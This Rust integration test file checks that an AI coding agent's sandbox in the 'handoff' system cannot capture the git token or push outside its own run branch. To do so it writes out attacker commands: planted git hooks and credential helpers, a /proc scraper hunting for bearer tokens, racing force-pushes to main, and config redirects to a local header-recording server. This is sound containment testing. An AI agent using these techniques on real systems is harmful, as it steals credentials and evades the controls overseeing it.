//! Run token ↔ other refs and repositories: handoff's own git commands ignore what the agent
//! plants (hooks, `core.hooksPath`, global config, credential helpers), never hold the git
//! token (the egress proxy adds it), and the credential proxy lets a run's token update only
//! `refs/heads/handoff/<runId>`, only while the run is pushing.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use handoff_tests::links::proxy_token;
use handoff_tests::runs::{repo_name, terminal};
use handoff_tests::stack::{self, RunStack, PROXY_SECRET};
use handoff_tests::Mcp;
use serde_json::{json, Value};
use std::process::Command;
use std::time::Duration;

const RUN_TIMEOUT: Duration = Duration::from_secs(240);

async fn run_to_end(mcp: &Mcp, arguments: Value) -> (String, Value) {
    let out = mcp.call_ok("opencode_run_task", arguments).await;
    let run_id = out["runId"].as_str().unwrap().to_string();
    let run = mcp.wait_run(&run_id, RUN_TIMEOUT, terminal).await;
    (run_id, run)
}

/// The `aud` of every JWT-shaped string in `text`.
fn token_audiences(text: &str) -> Vec<String> {
    let mut audiences = Vec::new();
    for (start, _) in text.match_indices("eyJ") {
        let candidate: String = text[start..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || "-_.".contains(*c))
            .collect();
        let parts: Vec<&str> = candidate.split('.').collect();
        if parts.len() < 3 {
            continue;
        }
        if let Ok(payload) = URL_SAFE_NO_PAD.decode(parts[1]) {
            if let Ok(claims) = serde_json::from_slice::<Value>(&payload) {
                audiences.push(claims["aud"].as_str().unwrap_or_default().to_string());
            }
        }
    }
    audiences
}

async fn exec(mcp: &Mcp, sandbox: &str, command: &str) -> Value {
    mcp.call_ok(
        "sandbox_exec",
        json!({"sandboxId": sandbox, "command": command, "timeoutMs": 30000}),
    )
    .await
}

#[tokio::test]
async fn hooks_and_config_planted_for_the_next_run_never_see_the_token_or_move_main() {
    let stack = stack::shared();
    let mcp = Mcp::connect(&stack.url()).await;
    let name = repo_name("planted");
    let repository = stack.broken_repo(&name);
    let main_before = stack.forge.refs("acme", &name);

    // Run 1 leaves the session's sandbox with the checkout in it.
    let (_, first) = run_to_end(
        &mcp,
        json!({"task": "Fix the test. [scenario:fix-add]", "repository": repository}),
    )
    .await;
    assert_eq!(first["status"], "completed", "{first:#}");
    let session = first["sessionId"].as_str().unwrap();
    let sandbox = format!("sbx_{}", session.trim_start_matches("ses_"));
    let proxy_url = format!("http://handoff-worker.internal/proxy/git/acme/{name}.git");

    // The attacker's preparations, as the agent (or a test suite it ran) could make them.
    let hook = format!(
        "#!/bin/sh\ntouch /home/sandbox/hook-ran-$(basename \"$0\")\nenv > /home/sandbox/hook-env-$(basename \"$0\")\n\
         git push -q --force {proxy_url} HEAD:refs/heads/main 2>> /home/sandbox/hook-push\nexit 0\n"
    );
    mcp.call_ok(
        "sandbox_files_write",
        json!({"sandboxId": sandbox, "path": "evil-hooks/pre-push", "content": hook}),
    )
    .await;
    let planted = exec(
        &mcp,
        &sandbox,
        &format!(
            "set -e; cd /home/sandbox/evil-hooks; for h in pre-commit prepare-commit-msg commit-msg post-commit post-checkout reference-transaction pre-auto-gc; do cp pre-push $h; done; chmod +x *; \
             cd /home/sandbox/{name}; cp /home/sandbox/evil-hooks/* .git/hooks/; git config core.hooksPath /home/sandbox/evil-hooks; \
             git config credential.helper '!f() {{ cat >> /home/sandbox/cred-helper; }}; f'; \
             printf '[core]\\n\\thooksPath = /home/sandbox/evil-hooks\\n[credential]\\n\\thelper = !f() {{ cat >> /home/sandbox/cred-helper; }}; f\\n[url \"http://127.0.0.1:9/\"]\\n\\tinsteadOf = http://handoff-worker.internal/\\n[http]\\n\\textraHeader = X-Planted: 1\\n' > /home/sandbox/.gitconfig; \
             mkdir -p /home/sandbox/.config/git; cp /home/sandbox/.gitconfig /home/sandbox/.config/git/config; \
             setsid sh -c 'while :; do for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr \"\\000\" \"\\n\" < $f; done 2>/dev/null | grep -a -e Bearer -e eyJ >> /home/sandbox/watched; sleep 0.02; done' > /dev/null 2>&1 < /dev/null & \
             setsid sh -c 'cd /home/sandbox/{name}; while :; do git -c core.hooksPath=/dev/null push -q --force {proxy_url} HEAD:refs/heads/main HEAD:refs/tags/planted >> /home/sandbox/raced 2>&1; sleep 0.05; done' > /dev/null 2>&1 < /dev/null & \
             echo planted"
        ),
    )
    .await;
    assert_eq!(planted["stdout"], "planted\n", "{planted}");

    // Run 2 of the same session works normally.
    let (run2, second) = run_to_end(
        &mcp,
        json!({"task": "Add notes. [scenario:followup]", "repository": repository, "sessionId": session}),
    )
    .await;
    assert_eq!(second["status"], "completed", "{second:#}");
    let branch = format!("handoff/{run2}");
    assert_eq!(second["result"]["branch"], json!(branch));
    assert!(stack
        .forge
        .file_on_branch("acme", &name, &branch, "NOTES.md")
        .is_some());

    // Main is where it was, no tag was made, and only the runs' own branches exist.
    let refs = stack.forge.refs("acme", &name);
    let main = |refs: &[(String, String)]| {
        refs.iter()
            .find(|(_, r)| r == "refs/heads/main")
            .map(|(sha, _)| sha.clone())
    };
    assert_eq!(main(&refs), main(&main_before), "main moved: {refs:?}");
    for (_, name) in &refs {
        assert!(
            name == "refs/heads/main" || name.starts_with("refs/heads/handoff/run_"),
            "unexpected ref {name}: {refs:?}"
        );
    }

    // No planted hook or helper ran for handoff's git commands, and nothing in the sandbox
    // ever saw a git token.
    let seen = exec(
        &mcp,
        &sandbox,
        "pkill -f 'whil[e] :' ; ls /home/sandbox; echo ---; cat /home/sandbox/watched /home/sandbox/cred-helper /home/sandbox/hook-env-* 2>/dev/null; echo ---; tail -c 2000 /home/sandbox/raced 2>/dev/null",
    )
    .await;
    let text = seen["stdout"].as_str().unwrap();
    assert!(!text.contains("hook-ran-"), "a planted hook ran: {text}");
    assert!(!text.contains("cred-helper\n"), "the credential helper ran");
    for audience in token_audiences(text) {
        assert!(
            !audience.contains("git") && !audience.contains("forge"),
            "a {audience} token was visible in the sandbox"
        );
    }
    assert!(!text.contains(stack::CANARY_GITHUB_TOKEN));
}

/// A local clone of `repository` (straight from the forge) with one new commit.
fn local_commit(stack: &RunStack, name: &str) -> std::path::PathBuf {
    let dir = handoff_tests::scratch_dir("pusher");
    let bare = stack.forge.bare("acme", name).display().to_string();
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(args)
            .current_dir(&dir)
            .env("GIT_TERMINAL_PROMPT", "0")
            .output()
            .expect("git");
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    git(&["clone", "-q", &bare, "."]);
    std::fs::write(dir.join("evil.txt"), "pushed with a stolen token\n").unwrap();
    git(&["add", "evil.txt"]);
    git(&[
        "-c",
        "user.name=x",
        "-c",
        "user.email=x@x",
        "commit",
        "-qm",
        "evil",
    ]);
    dir
}

/// `git push` from `dir` through the credential proxy with `token`; (success, stderr).
fn push(
    stack: &RunStack,
    dir: &std::path::Path,
    name: &str,
    token: &str,
    refspec: &str,
) -> (bool, String) {
    let url = format!("{}/proxy/git/acme/{name}.git", stack.url());
    let out = Command::new("git")
        .args([
            "-c",
            &format!("http.extraHeader=Authorization: Bearer {token}"),
            "push",
            "-q",
            "--force",
            &url,
            refspec,
        ])
        .current_dir(dir)
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .expect("git push");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test]
async fn a_run_token_pushes_only_its_own_branch_and_only_while_the_run_pushes() {
    let stack = stack::shared();
    let mcp = Mcp::connect(&stack.url()).await;
    let name = repo_name("scoped");
    let repository = stack.broken_repo(&name);
    let before = stack.forge.refs("acme", &name);
    let dir = local_commit(stack, &name);
    let out = mcp
        .call_ok(
            "opencode_run_task",
            json!({"task": "Fix it. [scenario:slow-push]", "repository": repository}),
        )
        .await;
    let run_id = out["runId"].as_str().unwrap().to_string();
    // A token for this run and repository, as one taken out of the sandbox would be.
    let token = proxy_token(
        PROXY_SECRET,
        "handoff:proxy:git",
        &run_id,
        Some(&format!("acme/{name}")),
        600,
    );
    let own = format!("HEAD:refs/heads/handoff/{run_id}");

    let working = mcp
        .wait_run(&run_id, RUN_TIMEOUT, |r| {
            r["progress"]["phase"] == "working" || terminal(r)
        })
        .await;
    assert_eq!(working["progress"]["phase"], "working", "{working:#}");
    let (ok, err) = push(stack, &dir, &name, &token, &own);
    assert!(
        !ok && err.contains("403"),
        "pushed while the agent works: {err}"
    );

    let pushing = mcp
        .wait_run(&run_id, RUN_TIMEOUT, |r| {
            r["progress"]["phase"] == "pushing" || terminal(r)
        })
        .await;
    assert_eq!(pushing["progress"]["phase"], "pushing", "{pushing:#}");
    for refspec in [
        "HEAD:refs/heads/main".to_string(),
        "HEAD:refs/heads/other".to_string(),
        "HEAD:refs/tags/v9".to_string(),
        format!(":refs/heads/handoff/{run_id}"),
        format!("HEAD:refs/heads/handoff/{run_id}-x"),
    ] {
        let (ok, err) = push(stack, &dir, &name, &token, &refspec);
        assert!(!ok && err.contains("403"), "{refspec} was accepted: {err}");
    }
    let other_repo = repo_name("other");
    stack.broken_repo(&other_repo);
    let (ok, _) = push(stack, &dir, &other_repo, &token, &own);
    assert!(!ok, "the token opened another repository");
    assert_eq!(
        stack.forge.refs("acme", &name),
        before,
        "a refused push changed refs"
    );
    assert!(stack
        .forge
        .refs("acme", &other_repo)
        .iter()
        .all(|(_, r)| r == "refs/heads/main"));

    // The legitimate push (the run's own branch, during its push) is accepted.
    let (ok, err) = push(stack, &dir, &name, &token, &own);
    assert!(ok, "the run's own branch was refused: {err}");

    let run = mcp.wait_run(&run_id, RUN_TIMEOUT, terminal).await;
    assert_eq!(run["status"], "completed", "{run:#}");
    let (ok, err) = push(stack, &dir, &name, &token, &own);
    // 401: git then asks for other credentials, which a test run cannot give.
    assert!(
        !ok && (err.contains("401") || err.contains("could not read Username")),
        "pushed after the run ended: {err}"
    );
}

#[tokio::test]
async fn a_push_redirected_by_the_repositorys_config_carries_no_credential() {
    let stack = stack::shared();
    let mcp = Mcp::connect(&stack.url()).await;
    let name = repo_name("redirected");
    let repository = stack.broken_repo(&name);
    let (_, first) = run_to_end(
        &mcp,
        json!({"task": "Fix the test. [scenario:fix-add]", "repository": repository}),
    )
    .await;
    assert_eq!(first["status"], "completed", "{first:#}");
    let session = first["sessionId"].as_str().unwrap();
    let sandbox = format!("sbx_{}", session.trim_start_matches("ses_"));
    // The repository's own config sends handoff's push to a recorder the agent runs.
    let recorder = r#"import http.server
class H(http.server.BaseHTTPRequestHandler):
    def handle_one_request(self):
        line = self.rfile.readline(65537)
        if not line:
            return
        head = [line.decode('latin-1')]
        while True:
            h = self.rfile.readline(65537)
            if h in (b'\r\n', b'\n', b''):
                break
            head.append(h.decode('latin-1'))
        open('/home/sandbox/captured', 'a').write(''.join(head) + '--\n')
        self.wfile.write(b'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')
http.server.HTTPServer(('127.0.0.1', 9999), H).serve_forever()
"#;
    mcp.call_ok(
        "sandbox_files_write",
        json!({"sandboxId": sandbox, "path": "recorder.py", "content": recorder}),
    )
    .await;
    let planted = exec(
        &mcp,
        &sandbox,
        &format!(
            "cd /home/sandbox/{name} && git config url.http://127.0.0.1:9999/.insteadOf http://handoff-worker.internal/ && \
             git config url.http://127.0.0.1:9999/.pushInsteadOf http://handoff-worker.internal/ && \
             (setsid python3 /home/sandbox/recorder.py > /dev/null 2>&1 < /dev/null &) && sleep 1 && echo planted"
        ),
    )
    .await;
    assert_eq!(planted["stdout"], "planted\n", "{planted}");
    let (_, second) = run_to_end(
        &mcp,
        json!({"task": "Add notes. [scenario:followup]", "repository": repository, "sessionId": session}),
    )
    .await;
    // The agent can sabotage its own push; it cannot make the credential go anywhere else.
    assert_eq!(second["status"], "failed", "{second:#}");
    assert_eq!(
        second["result"]["error"]["code"], "push_failed",
        "{second:#}"
    );
    let captured = exec(
        &mcp,
        &sandbox,
        "pkill -f recorde[r].py; cat /home/sandbox/captured",
    )
    .await;
    let text = captured["stdout"].as_str().unwrap().to_ascii_lowercase();
    assert!(
        text.contains("git-receive-pack"),
        "the redirect did not happen: {captured} {second:#}"
    );
    assert!(
        !text.contains("authorization"),
        "a credential reached the recorder: {text}"
    );
    assert!(token_audiences(&text).is_empty(), "{text}");
}
